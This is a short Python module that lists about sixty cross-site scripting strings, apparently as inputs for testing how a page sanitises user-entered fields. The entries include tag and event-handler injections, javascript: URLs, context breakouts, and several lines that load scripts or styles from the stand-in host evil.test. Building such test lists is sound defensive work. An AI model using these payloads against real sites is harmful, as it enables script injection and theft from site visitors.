"""Sixty ways to smuggle a script into a page: what strangers type into a name, a company or a note."""

CALL = "alert(1)"
TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.test/x.js></script>", "<script>{}//", "<<script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<svg><script>{}</script></svg>",
    "<svg><script>&#97;lert(1)</script>", "<svg><script xlink:href=data:,{}></script>", "<svg onload={}>", "<svg/onload={}>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<img/src=x/onerror={}>", "<img src onerror=/\"/{}>", "<body onload={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}>", "<audio src=x onerror={}>", "<marquee onstart={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<form action=javascript:{}><input type=submit>", "<button formaction=javascript:{}>x</button>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>", "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import'//evil.test/x.css'</style>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
]  # fmt: skip
BREAKOUTS = [
    "\"><script>{}</script>", "'><script>{}</script>", "\" onmouseover={} x=\"", "' onfocus={} autofocus '", "\" autofocus onfocus={} x=\"",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "</style><script>{}</script>", "</select><script>{}</script>", "`-{}-`", "'-{}-'", "\";{}//",
    "javascript:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
    "%3Cscript%3E{}%3C/script%3E",
]  # fmt: skip
PAYLOADS = [payload.format(CALL) for payload in TAGS + BREAKOUTS]
